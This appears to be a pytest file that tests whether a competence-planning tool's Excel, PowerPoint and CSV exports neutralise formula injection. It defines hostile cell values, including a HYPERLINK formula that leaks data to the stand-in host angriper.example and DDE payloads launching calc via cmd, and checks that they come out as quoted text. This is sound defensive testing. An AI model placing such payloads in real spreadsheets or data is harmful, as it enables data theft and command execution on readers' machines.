"""Hostile texts in the data (unit names, professions, measures, goals) are text in every file we write."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook
from pptx import Presentation

from kompetanse import export
from kompetanse.export.safe_cells import FORMULA_PREFIXES, csv_cell
from kompetanse.storage import store
from tests.fixtures import demo_copy

HYPERLINK = '=HYPERLINK("http://angriper.example/?d="&A1,"Klikk")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo with formulas in every free text the pack shows (written straight into the active rows)."""
    path = demo_copy(tmp_path_factory.mktemp("hostile") / "demo.duckdb")
    con = duckdb.connect(str(path))
    con.execute("update units set unit_name = $v where unit_code = 'MB-L'", {"v": HYPERLINK})
    con.execute("update units set unit_name = $v where unit_code = 'BB-N'", {"v": DDE})
    con.execute("update employments set profession = $v where profession = 'bioingeniør'", {"v": DDE})
    con.execute("update employments set profession = $v where profession = 'lege'", {"v": PLUS})
    con.execute(store.PROFESSION_GROUP_REDERIVE)  # the stored profession group follows, as an import writes it
    con.execute("update measures set measure = $v, responsible = $r, comment = $c, need = $n",
                {"v": HYPERLINK, "r": DDE, "c": AT, "n": MINUS})
    con.execute("update goals set title = $v, responsible = $r, comment = $c", {"v": DDE, "r": HYPERLINK, "c": PLUS})
    con.execute("update competences set competence = $v where competence in (select min(competence) from competences)",
                {"v": "\t=1+1"})
    con.execute("update requirements set competence = $v where competence in (select min(competence) from competences)",
                {"v": "\t=1+1"})
    con.close()
    return path


@pytest.fixture(scope="module")
def hostile_packs(hostile_db: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile-packs")
    con = store.connect(hostile_db)
    try:
        return {fmt: export.build(con, fmt, folder / f"pack.{fmt}", unit="ALM", as_of=None) for fmt in ("xlsx", "pptx")}
    finally:
        con.close()


def _formula_cells(blob: bytes) -> list[str]:
    """Every cell of every sheet that Excel would calculate: an <f> element, or a text cell starting with '='."""
    found = []
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                if "<f>" in xml or "<f " in xml:
                    found.append(name)
    workbook = load_workbook(io.BytesIO(blob))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            found += [f"{sheet.title}!{c.coordinate}" for c in row if c.data_type == "f"]
    return found


HOSTILE = {HYPERLINK, DDE, PLUS, AT, MINUS, "\t=1+1"}


def _hostile_texts(blob: bytes) -> list:  # type: ignore[type-arg]
    """The cells whose value is one of the hostile texts (so the test knows they were written at all)."""
    workbook = load_workbook(io.BytesIO(blob))
    return [c for s in workbook.worksheets for row in s.iter_rows() for c in row if c.value in HOSTILE]


def test_no_cell_of_the_workbook_is_a_formula(hostile_packs: dict[str, Path]) -> None:
    blob = hostile_packs["xlsx"].read_bytes()
    assert _formula_cells(blob) == []
    texts = _hostile_texts(blob)
    assert len(texts) >= 10  # the hostile texts are there, shown as they were typed
    assert {c.value for c in texts} >= {HYPERLINK, DDE, PLUS}
    assert all(c.data_type == "s" for c in texts)
    assert all(c.quotePrefix for c in texts if c.value[:1] in FORMULA_PREFIXES)


def test_numbers_in_the_workbook_stay_numbers(hostile_packs: dict[str, Path]) -> None:
    workbook = load_workbook(hostile_packs["xlsx"])
    sheet = workbook["Ansatte og årsverk"]
    numbers = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, int | float)]
    assert len(numbers) > 20


def test_no_cell_of_the_decks_chart_workbooks_is_a_formula(hostile_packs: dict[str, Path]) -> None:
    deck = Presentation(str(hostile_packs["pptx"]))
    embedded = [shape.chart.part.chart_workbook.xlsx_part.blob
                for slide in deck.slides for shape in slide.shapes if shape.has_chart]
    assert len(embedded) >= 5
    assert [name for blob in embedded for name in _formula_cells(blob)] == []
    labels = [c.value for blob in embedded for s in load_workbook(io.BytesIO(blob)).worksheets
              for row in s.iter_rows() for c in row if isinstance(c.value, str)]
    assert HYPERLINK in labels or DDE in labels  # a hostile unit name is a category label, as text


@pytest.mark.parametrize("value", [HYPERLINK, DDE, PLUS, AT, MINUS, "\t=1+1", "\r=1+1", "|calc", "%0A=1"])
def test_a_hostile_csv_cell_is_neutralised(value: str) -> None:
    assert csv_cell(value).startswith("'")


@pytest.mark.parametrize("value", ["Sykepleier", "-", "-12,5", "12", "", "e-læring"])
def test_a_plain_csv_cell_is_kept(value: str) -> None:
    assert csv_cell(value) == value


def test_the_rejected_rows_file_has_no_formula(tmp_path: Path) -> None:
    from kompetanse import importer

    con = store.connect(tmp_path / "t.duckdb")
    text = ("Ansattnr;Enhet;Yrkesgruppe;Fødselsdato;Stillingsprosent;Startdato\n"
            f"1;A;sykepleier;01.01.1980;100;01.01.2010\n"
            f"2;{DDE};{HYPERLINK};ikke en dato;100;01.01.2010\n")
    source = tmp_path / "personal.csv"
    source.write_text(text, encoding="utf-8")
    outcome = importer.import_files(con, [source], skip_invalid=True)
    con.close()
    assert outcome.rejected == 1 and outcome.rejected_file is not None
    rows = list(csv.reader(outcome.rejected_file.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + DDE.replace("|", "\\|") in cells or "'" + DDE in cells
    assert not any(cell[:1] in FORMULA_PREFIXES for cell in cells if cell)
